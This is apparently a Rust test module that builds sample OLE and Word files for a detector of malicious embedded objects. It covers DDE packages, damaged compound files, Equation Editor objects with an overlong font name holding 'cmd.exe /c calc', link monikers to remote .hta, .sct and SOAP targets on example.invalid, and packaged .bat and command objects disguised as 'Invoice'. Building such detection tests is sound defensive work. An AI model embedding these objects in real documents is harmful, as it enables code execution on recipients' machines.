//! Objects inside documents: rows W4, R3 and R4, and damage to the compound file around them.

use super::{DDE, dde_docx, docx, sample};
use crate::make::cfb::{Cfb, Damage};
use crate::make::ole;
use crate::make::opc::{DOCX, Opc};
use crate::samples::{Expect, Sample};

const OLE_OBJECT: &str = "application/vnd.openxmlformats-officedocument.oleObject";
const EQUATION: Expect = Expect::Related("equation");
const LINK: Expect = Expect::Related("ole-link");
const FILE: Expect = Expect::Related("packaged-file");

pub(super) fn samples() -> Vec<Sample> {
    [embedded(), damaged(), equations(), links(), packages(), near()].concat()
}

fn pool() -> Cfb {
    Cfb::new().stream("ObjectPool/_1/\u{1}Ole", &ole::embedded_stream()).stream("ObjectPool/_1/Package", &dde_docx())
}

/// A Word document with an embedded object.
fn holding(object: &[u8]) -> Vec<u8> {
    let document = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>";
    Opc::new()
        .part("word/document.xml", DOCX, document)
        .part("word/embeddings/oleObject1.bin", OLE_OBJECT, object)
        .relate("", "officeDocument", "word/document.xml")
        .relate("word/document.xml", "oleObject", "embeddings/oleObject1.bin")
        .build()
}

fn embedded() -> Vec<Sample> {
    let package = Cfb::new().stream("Package", &dde_docx()).bytes();
    let file = ole::native_stream(&ole::packaged("a.docx", "C:\\a.docx", &dde_docx()));
    let packaged = Cfb::new().class_id(ole::PACKAGE).stream("\u{1}Ole10Native", &file).bytes();
    let whole = Cfb::new().stream("Contents", &package).bytes();
    vec![
        sample("W4", "w4-object-pool-package.ole", DDE, pool().bytes()),
        sample("W4", "w4-embedded-package.docx", DDE, holding(&package)),
        sample("W4", "w4-embedded-packager-file.docx", DDE, holding(&packaged)),
        sample("W4", "w4-document-in-object-in-document.docx", DDE, holding(&whole)),
        sample("W4", "w4-ole1-packager-file.bin", DDE, ole::embedded("Package", &ole::packaged("a", "a", &dde_docx()))),
        sample("W4", "w4-ole1-compound.bin", DDE, ole::embedded("Word.Document.12", &package)),
    ]
}

fn damaged() -> Vec<Sample> {
    let orphans = Damage { orphans: vec!["_1".to_owned()], ..Damage::default() };
    let stream = Damage { orphans: vec!["Package".to_owned()], ..Damage::default() };
    let names = Damage { bad_names: true, ..Damage::default() };
    let order = Damage { reversed: true, trailing: vec![0x41; 3000], ..Damage::default() };
    vec![
        sample("orphan-stream", "orphan-storage.ole", DDE, pool().damage(orphans).bytes()),
        sample("orphan-stream", "orphan-stream.ole", DDE, pool().damage(stream).bytes()),
        sample("W4", "w4-names-without-length.ole", DDE, pool().damage(names).bytes()),
        sample("W4", "w4-sectors-out-of-order.ole", DDE, pool().damage(order).bytes()),
    ]
}

fn equation(native: &[u8]) -> Cfb {
    Cfb::new().class_id(ole::EQUATION).stream("Equation Native", native)
}

fn equations() -> Vec<Sample> {
    let mut long = b"cmd.exe /c calc&".to_vec();
    long.resize(60, b'A');
    let font = ole::equation(&long);
    let bare = Cfb::new().class_id(ole::EQUATION).stream("\u{1}Ole10Native", &ole::native_stream(&font));
    let renamed = Cfb::new().stream("\u{1}CompObj", &ole::comp_obj("Equation.3")).stream("eQuAtIoN nAtIvE", &font);
    vec![
        sample("R3", "r3-font-name-too-long.ole", EQUATION, equation(&font).bytes()),
        sample("R3", "r3-matrix-too-large.ole", EQUATION, equation(&ole::equation_matrix(200, 2)).bytes()),
        sample("R3", "r3-native-stream.ole", EQUATION, bare.bytes()),
        sample("R3", "r3-name-in-mixed-case.ole", EQUATION, renamed.bytes()),
        sample("R3", "r3-ole1-compound.bin", EQUATION, ole::embedded("Equation.3", &equation(&font).bytes())),
        sample("R3", "r3-ole1-native.bin", EQUATION, ole::embedded("Equation.3", &font)),
        sample("R3", "r3-plain-equation.ole", EQUATION, equation(&ole::equation(b"Times")).bytes()),
    ]
}

fn linked(moniker: &[u8]) -> Vec<u8> {
    let stream = ole::link_stream(moniker, true);
    Cfb::new().stream("\u{1}CompObj", &ole::comp_obj("OLE2Link")).stream("\u{1}Ole", &stream).bytes()
}

fn links() -> Vec<Sample> {
    let item = [ole::file_moniker("C:\\book.xls"), ole::item_moniker("Sheet1!R1C1")].concat();
    let manual = ole::link_stream(&ole::file_moniker("C:\\book.xls"), false);
    let url = ole::url_moniker("http://example.invalid/a.hta");
    vec![
        sample("R4", "r4-url-moniker.ole", LINK, linked(&url)),
        sample("R4", "r4-file-moniker.ole", LINK, linked(&ole::file_moniker("\\\\example.invalid\\share\\a.doc"))),
        sample("R4", "r4-file-and-item.ole", LINK, linked(&item)),
        sample("R4", "r4-script-moniker.ole", LINK, linked(&ole::script_moniker("C:\\Temp\\a.sct"))),
        sample("R4", "r4-soap-moniker.ole", LINK, linked(&ole::soap_moniker("wsdl=http://example.invalid/a"))),
        sample("R4", "r4-manual-update.ole", LINK, Cfb::new().stream("\u{1}Ole", &manual).bytes()),
        sample("R4", "r4-ole1-link.bin", LINK, ole::linked("Excel.Sheet.8", "C:\\book.xls", "Sheet1!R1C1")),
        sample("R4", "r4-ole1-url-moniker.bin", LINK, ole::embedded("OLE2Link", &linked(&url))),
    ]
}

fn packages() -> Vec<Sample> {
    let file = ole::native_stream(&ole::packaged("a.bat", "C:\\a.bat", b"whoami\r\n"));
    let command = ole::native_stream(&ole::packaged_command("Invoice", "cmd.exe /c calc"));
    let store = |stream: &[u8]| Cfb::new().class_id(ole::PACKAGE).stream("\u{1}Ole10Native", stream).bytes();
    vec![
        sample("R4", "r4-packaged-file.ole", FILE, store(&file)),
        sample("R4", "r4-packaged-command.ole", FILE, store(&command)),
        sample(
            "R4",
            "r4-ole1-packaged-file.bin",
            FILE,
            ole::embedded("Package", &ole::packaged("a", "a.bat", b"whoami")),
        ),
    ]
}

fn near() -> Vec<Sample> {
    let workbook = [&[0x09, 8, 16, 0, 0, 6, 5, 0][..], &[0; 12], &[0x0a, 0, 0, 0]].concat();
    let sheet = Cfb::new()
        .stream("ObjectPool/_1/\u{1}Ole", &ole::embedded_stream())
        .stream("ObjectPool/_1/\u{1}CompObj", &ole::comp_obj("Excel.Sheet.8"))
        .stream("ObjectPool/_1/Workbook", &workbook);
    let words = Cfb::new().stream("Package", &docx("<w:r><w:t>About DDE and DDEAUTO cmd \"/c calc\"</w:t></w:r>"));
    vec![
        sample("W4", "near-embedded-worksheet.ole", Expect::Silent, sheet.bytes()),
        sample("W4", "near-embedded-document.ole", Expect::Silent, words.bytes()),
    ]
}
